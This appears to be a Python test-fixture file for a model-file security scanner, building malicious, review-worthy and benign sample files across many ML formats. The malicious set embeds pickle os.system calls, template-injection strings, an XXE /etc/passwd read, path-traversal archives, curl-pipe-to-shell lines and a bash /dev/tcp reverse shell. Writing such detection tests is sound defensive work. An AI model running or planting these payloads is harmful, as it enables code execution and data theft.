"""Whole files of every format but pickle, by family and by what an inspection should say of them."""
# ruff: noqa: E501  (one case a line)

from __future__ import annotations

import io
import json
import struct
import tarfile
from collections.abc import Mapping
from typing import Any

from tests.fakes import model_files as mf
from tests.fakes.messages import block, number
from tests.fakes.model_files import gguf, keras, keras_layer, onnx, onnx_node, safetensors, skops, skops_node
from tests.fakes.zips import Piece, zip_of

POISON = b"\x80\x04cposix\nsystem\nX\x02\x00\x00\x00id\x85R."
CALL = b"cos\nsystem\n(S'id'\ntR."
CODED = {"class_name": "__lambda__", "config": {"code": "4wEA"}}
PACKED = b"\x93NUMPY\x01\x00"

Table = dict[str, dict[str, bytes]]
"""Family, then the file's name, then its bytes."""


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


def _notebook(*lines: str) -> bytes:
    return _json({"nbformat": 4, "cells": [{"cell_type": "code", "source": list(lines), "outputs": []}]})


def zipped(members: Mapping[str, bytes], method: int = 0) -> bytes:
    """An honest zip file."""
    return zip_of(*(Piece(name=name.encode(), data=data, method=method) for name, data in members.items()))


def tarred(members: Mapping[str, bytes]) -> bytes:
    """An honest tar file."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return out.getvalue()


def keras_zip(layer: Mapping[str, Any], **more: bytes) -> bytes:
    """A `.keras` file with one layer."""
    members = {"metadata.json": _json({"keras_version": "3.5.0"}), "config.json": _json(keras(dict(layer)))}
    return zipped({**members, **more})


def h5(config: Mapping[str, Any]) -> bytes:
    """An HDF5 file of Keras with one layer."""
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [config]}})
        file.create_dataset("model_weights/dense/kernel", data=[1.0, 2.0])
    return out.getvalue()


def torchscript(source: str) -> bytes:
    """A TorchScript archive."""
    return zipped(
        {
            "m/constants.pkl": b"\x80\x02).",
            "m/data.pkl": b"\x80\x02).",
            "m/code/__torch__.py": source.encode(),
            "m/version": b"6\n",
        }
    )


def npy(head: str, data: bytes) -> bytes:
    """A file of numpy.save."""
    text = head.encode() + b" " * (-(len(head) + 11) % 64) + b"\n"
    return PACKED + struct.pack("<H", len(text)) + text + data


def objects(data: bytes) -> bytes:
    """An array of objects, which numpy pickles."""
    return npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", data)


NUMBERS = npy("{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }", bytes(16))
WORDS = {"m/version": b"3\n", "m/byteorder": b"little"}
DENSE = keras_layer("Dense", {"units": 3, "activation": "relu"}, module="keras.layers", registered_name=None)
SCRIPT = "class X(Module):\n  def forward(self: X, x: Tensor) -> Tensor:\n    {}\n    return x\n"
SHELL = b"#!/bin/sh\ncurl https://x.example/a | bash\n"
ELF = b"\x7fELF\2\1\1" + bytes(9) + b"\3\0>\0\1\0\0\0" + bytes(60)
PYTHON = b"import json\n\ndef model_fn(model_dir):\n    return json.load(open(model_dir + '/config.json'))\n"
LLAMA = "{% for message in messages %}{{ '<|' + message.role + '|>' + message.content }}{% endfor %}"
CONFIG = _json({"model_type": "llama", "vocab_size": 3})

MALICIOUS: Table = {
    "keras": {
        "lambda.keras": keras_zip(keras_layer("Lambda", {"function": CODED})),
        "lambda-old.json": _json(keras(keras_layer("Lambda", {"function": ["4wEA", None, None], "function_type": "lambda"}))),
        "lambda-nested.keras": keras_zip(keras_layer("TimeDistributed", {"layer": keras_layer("Lambda", {"function": CODED})})),
        "module.keras": keras_zip(keras_layer("system", {}, module="os")),
        "get-file.keras": keras_zip(keras_layer("get_file", {}, module="keras.utils")),
        "reads-file.keras": keras_zip(keras_layer("StringLookup", {"vocabulary": "/etc/passwd"})),
        "torch-module.keras": keras_zip(keras_layer("TorchModuleWrapper", {"module": "UEs="})),
        "renamed.bin": keras_zip(keras_layer("Lambda", {"function": CODED})),
        "pickle-beside.keras": keras_zip(DENSE, **{"assets/x.pkl": POISON}),
        "keras_metadata.pb": block(1, number(2, 1) + block(5, _json(keras(keras_layer("Lambda", {"function": CODED}))))),
        "lambda.h5": h5(keras_layer("Lambda", {"function": ["4wEA", None, None]})),
        "module.h5": h5(keras_layer("system", {}, module="os")),
        "lambda-renamed.dat": h5(keras_layer("Lambda", {"function": ["4wEA", None, None]})),
    },
    "tensorflow": {
        "saved_model.pb": mf.saved_model(mf.tf_node("WriteFile")),
        "function/saved_model.pb": mf.saved_model(mf.TF_FUNCTION),
        "python/saved_model.pb": mf.saved_model(mf.tf_node("PyFunc")),
        "frozen.pb": mf.tf_node("WriteFile"),
        "network.pb": mf.tf_node("DebugIdentityV2"),
        "deep.tar": tarred({"1/saved_model.pb": mf.saved_model(mf.tf_node("MatMul") + mf.tf_node("WriteFile"))}),
    },
    "onnx": {
        "parent.onnx": onnx(mf.onnx_external("../../etc/passwd")),
        "absolute.onnx": onnx(mf.onnx_external("/etc/passwd")),
        "windows.onnx": onnx(mf.onnx_external("C:\\x")),
        "address.onnx": onnx(mf.onnx_external("https://x.example/w")),
        "python.onnx": onnx(onnx_node("PythonOp", "com.microsoft")),
        "constant.onnx": onnx(onnx_node("Constant", "", block(5, block(13, block(1, "location") + block(2, "../x"))))),
        "model.onnx_data": POISON + bytes(60),
    },
    "gguf": {
        "template.gguf": gguf(mf.GGUF_GENERAL, mf.gguf_template("{{ ''.__class__ }}")),
        "subclasses.gguf": gguf(mf.GGUF_GENERAL, mf.gguf_template("{% set x = cycler.__init__.__globals__.os.popen('id') %}")),
        "string.gguf": gguf(mf.gguf_text("k") + struct.pack("<IQ", 8, 2**62)),
        "entries.gguf": gguf(mf.GGUF_GENERAL, entries=2**40),
        "array.gguf": gguf(mf.gguf_pair("x", 9, struct.pack("<IQ", 10, 2**61))),
        "renamed.bin": gguf(mf.GGUF_GENERAL, mf.gguf_template("{{ ''.__class__ }}")),
    },
    "tokenizer": {
        "tokenizer_config.json": _json({"chat_template": [{"name": "x", "template": "{{ x.__class__ }}"}]}),
        "attr/tokenizer_config.json": _json({"chat_template": "{{ x|attr('__class__') }}"}),
        "item/tokenizer_config.json": _json({"chat_template": "{{ x['__cla' + 'ss__'] }}"}),
        "chat.jinja": b"{{ ''.__class__.__mro__ }}",
    },
    "safetensors": {
        "bomb.safetensors": safetensors(mf.SAFE_ONE, length=2**40),
        "size.safetensors": safetensors({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 12]}}),
        "overlap.safetensors": safetensors({**mf.SAFE_ONE, "x": {"dtype": "F32", "shape": [1], "data_offsets": [12, 16]}}),
        "hole.safetensors": safetensors({"x": {"dtype": "F32", "shape": [1], "data_offsets": [12, 16]}}),
        "behind.safetensors": safetensors(mf.SAFE_ONE, bytes(16) + b"#!/bin/sh\n"),
        "pickle-behind.safetensors": safetensors(mf.SAFE_ONE, bytes(16) + POISON),
        "pickle-within.safetensors": safetensors({"w": {"dtype": "U8", "shape": [len(POISON)], "data_offsets": [0, len(POISON)]}}, POISON),
        "twice.safetensors": safetensors(b'{"w": 1, "w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}'),
        "only-named.safetensors": POISON,
    },
    "skops": {
        "callable.skops": zipped({"schema.json": skops(skops_node("FunctionNode", "builtins", "function", content={"module_path": "os", "function": "system"})).encode()}),
    },
    "xgboost": {"behind.ubj": mf.UBJSON + POISON},
    "lightgbm": {"model.txt": b"tree\nversion=v4\n" + POISON},
    "pmml": {"entities.pmml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'},
    "msgpack": {"behind.msgpack": b"\xc0" + POISON},
    "mlflow": {
        "model.zip": zipped({"model/MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n", "model/model.pkl": POISON}),
        "tags.yaml": b"a: !!python/object/apply:os.system ['id']",
    },
    "hugging face": {
        "repository.zip": zipped({"config.json": CONFIG, "pytorch_model.bin": zipped({"m/data.pkl": POISON, **WORDS})}),
        "token/config.json": _json({"hub_token": "h" + "f_" + "zYxWvUtSrQpOnMlKjIhGfEdCbAzYxWvUtS"}),
    },
    "mar": {"model.mar": zipped({"MAR-INF/MANIFEST.json": _json({"model": {"handler": "handler.py"}}), "model.pt": zipped({"m/data.pkl": POISON, **WORDS})})},
    "nemo": {
        "model.nemo": tarred({"model_config.yaml": b"model: {_target_: subprocess.Popen}", "model_weights.ckpt": zipped({"m/data.pkl": b"\x80\x02}.", **WORDS})}),
        "weights.nemo": tarred({"model_config.yaml": b"model: {}", "model_weights.ckpt": zipped({"m/data.pkl": POISON, **WORDS})}),
    },
    "notebook": {
        "curl.ipynb": _notebook("!curl https://x.example/a | sh"),
        "bash.ipynb": _notebook("%%bash\n", "wget https://x.example/a.sh -O- | sh"),
    },
    "requirements": {
        "index/requirements.txt": b"--extra-index-url https://pkgs.example/simple\nx==1\n",
        "vcs/requirements.txt": b"x @ git+https://git.example/x\n",
        "plain/requirements.txt": b"x==1\n--trusted-host pkgs.example\n",
    },
    "shell": {"install.sh": SHELL, "start": b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1\n"},
    "sagemaker": {
        "install.tar": tarred({"model.joblib": b"\x80\x04N.", "code/setup.sh": SHELL}),
        "requirements.tar": tarred({"model.joblib": b"\x80\x04N.", "code/requirements.txt": b"--index-url http://pkgs.example/simple\nx==1\n"}),
    },
    "torch storage": {
        "pickle.pt": zipped({"m/data.pkl": b"\x80\x02}.", "m/data/0": CALL + bytes(500), **WORDS}),
        "elf.pt": zipped({"m/data.pkl": b"\x80\x02}.", "m/data/0": ELF, **WORDS}),
        "other.pt": zipped({"m/data.pkl": b"\x80\x02}.", "m/notes": CALL, **WORDS}),
        "legacy.pth": mf.legacy((b"11", bytes(400)), (b"12", CALL + bytes(58))),
        "legacy-behind.pth": mf.legacy((b"11", bytes(400)), after=CALL),
        "legacy-inner.pth": mf.legacy((b"11", bytes(40)), inner=CALL[:-1]),
    },
    "torchscript": {"from-file.pt": torchscript(SCRIPT.format('y = torch.from_file("/etc/passwd", False, 9)')), "save.pt": torchscript(SCRIPT.format('torch.save(x, "/x")'))},
    "paths": {f"{at}.zip": zip_of(Piece(name=name, data=b"x")) for at, name in enumerate((b"../x", b"/x", b"C:\\x", b"a/../../x", b"\\\\host\\x"))}
    | {f"{at}.tar": tarred({name: b"x"}) for at, name in enumerate(("../x", "/x", "a/../../x"))}
    | {"link.zip": zip_of(Piece(name=b"a/l", data=b"../../etc", mode=0o120777))},
}  # fmt: skip

REVIEW: Table = {
    "keras": {
        "named.keras": keras_zip(keras_layer("Lambda", {"function": "scale", "function_type": "function"})),
        "own.keras": keras_zip(keras_layer("Attention", {}, registered_name="acme>Attention")),
        "saved-model.keras": keras_zip(keras_layer("TFSMLayer", {"filepath": "x"})),
    },
    "onnx": {"custom.onnx": onnx(onnx_node("Evil", "com.evil")), "nested.onnx": onnx(onnx_node("If", "", block(6, onnx_node("Evil", "com.evil"))))},
    "tensorflow": {"reads/saved_model.pb": mf.saved_model(mf.tf_node("ReadFile"))},
    "tflite": {"reads.tflite": mf.tflite("FlexReadFile"), "custom.tflite": mf.tflite("FlexMatMul", "Mine")},
    "core ml": {"custom.mlmodel": mf.core_ml(block(500, block(10, "Mine"))), "model.mlmodel": block(555, block(10, "Mine"))},
    "skops": {"unknown.skops": zipped({"schema.json": skops(skops_node("ObjectNode", "acme", "Thing")).encode()})},
    "pmml": {"extension.pmml": b"<PMML><Extension name='x'/></PMML>"},
    "msgpack": {"extension.msgpack": b"\xd4\x2a\x00"},
    "mlflow": {"MLmodel": b"flavors: {python_function: {loader_module: evil}}", "name.yaml": b"a: !!python/name:acme.thing ''"},
    "native": {"op.so": b"\x7fELF" + bytes(60), "model.engine": b"ftrt" + bytes(60), "model.plan": ELF},
    "hugging face": {
        "config.json": _json({"auto_map": {"AutoModel": "modeling.Net"}}),
        "other/config.json": _json({"auto_map": {"AutoModel": "other/repo--modeling.Net"}}),
        "pipeline/config.json": _json({"a": [{"custom_pipelines": {"x": {"impl": "p.P"}}}]}),
        "hydra/hparams.json": _json({"loss": {"_target_": "unknown_package.thing"}}),
    },
    "notebook": {"process.ipynb": _notebook("import os\nos.system('id')")},
}  # fmt: skip

BENIGN: Table = {
    "keras": {"dense.keras": keras_zip(DENSE), "dense.h5": h5(keras_layer("Dense", {"units": 1})), "words.json": _json(keras(keras_layer("StringLookup", {"vocabulary": ["eval", "os.system"]}, module="keras.layers")))},
    "tensorflow": {"saved_model.pb": mf.saved_model(mf.tf_node("MatMul") + mf.tf_node("RestoreV2") + mf.tf_node("SaveV2")), "frozen.pb": mf.tf_node("Conv2D"), "variables/variables.data-00000-of-00001": bytes(200)},
    "onnx": {"plain.onnx": onnx(onnx_node("Conv"), onnx_node("Gelu", "com.microsoft"), mf.onnx_external("weights.bin")), "own.onnx": onnx(onnx_node("Mine", "acme"), functions=mf.ONNX_OWN), "model.onnx_data": bytes(200)},
    "gguf": {"llama.gguf": gguf(mf.GGUF_GENERAL, mf.GGUF_TOKENS, mf.GGUF_SCORES, mf.gguf_template(LLAMA)), "vocabulary.gguf": gguf(mf.GGUF_GENERAL, tensors=0, data=0)},
    "tokenizer": {"tokenizer_config.json": _json({"chat_template": LLAMA, "eos_token": "</s>"}), "tokenizer.model": block(1, block(1, "a")) + block(2, number(3, 1)), "vocab.json": _json({"eval": 0, "os": 1, "__import__": 2}), "merges.txt": "Ġ t\nĠ a\n".encode()},
    "safetensors": {"one.safetensors": safetensors(mf.SAFE_ONE), "metadata.safetensors": safetensors({"__metadata__": {"format": "pt"}, **mf.SAFE_ONE}), "scalar.safetensors": safetensors({"s": {"dtype": "BF16", "shape": [], "data_offsets": [0, 2]}}, b"\0\0")},
    "skops": {"regression.skops": zipped({"schema.json": skops(skops_node("ObjectNode", "sklearn.linear_model._base", "LinearRegression"), skops_node("ObjectNode", "numpy", "float64")).encode(), "1.npy": NUMBERS})},
    "tflite": {"plain.tflite": mf.tflite("FlexMatMul")},
    "core ml": {"plain.mlmodel": mf.core_ml(block(140, b""))},
    "xgboost": {"plain.ubj": mf.UBJSON, "plain.json": _json({"learner": {"attributes": {}}, "version": [2, 1, 0]})},
    "lightgbm": {"model.txt": b"tree\nversion=v4\nnum_class=1\n"},
    "pmml": {"plain.pmml": b'<?xml version="1.0"?><PMML version="4.4"><Header/></PMML>'},
    "msgpack": {"flax_model.msgpack": b"\x81\xa1w" + mf.FLAX_ARRAY},
    "mlflow": {"MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n", "conda.yaml": b"dependencies:\n- python=3.11\n"},
    "numpy": {"numbers.npy": NUMBERS, "numbers.npz": zipped({"a.npy": NUMBERS, "b.npy": NUMBERS}, 8)},
    "torch": {"empty.pt": zipped({"m/data.pkl": b"\x80\x02}.", **WORDS}), "legacy.pth": mf.legacy((b"11", bytes(400)))},
    "torchscript": {"plain.pt": torchscript(SCRIPT.format('print("torch.save(x, y)")'))},
    "mar": {"model.mar": zipped({"MAR-INF/MANIFEST.json": _json({"model": {"modelName": "m"}}), "model.pt": zipped({"m/data.pkl": b"\x80\x02}.", **WORDS})})},
    "nemo": {"model.nemo": tarred({"model_config.yaml": b"model: {name: m}", "model_weights.ckpt": zipped({"m/data.pkl": b"\x80\x02}.", **WORDS})})},
    "notebook": {"plain.ipynb": _notebook("%matplotlib inline\n", "x = 1\n", "!ls\n")},
    "requirements": {"requirements.txt": b"numpy==2.0 --hash=sha256:00\n--index-url https://index.example/simple\n"},
    "shell": {"run.sh": b"#!/bin/sh\nset -e\npython serve.py\n"},
    "sagemaker": {"model.tar": tarred({"model.joblib": b"\x80\x04N.", "code/inference.py": PYTHON, "code/requirements.txt": b"numpy==2.0 --hash=sha256:00\n"})},
    "text": {"README.md": b"# A model\n\nSee os.system and eval(x).\n", "config.json": CONFIG, "train.jsonl": b'{"a": 1}\n{"a": 2}\n', "a.png": b"\x89PNG\r\n\x1a\n" + bytes(20)},
}  # fmt: skip
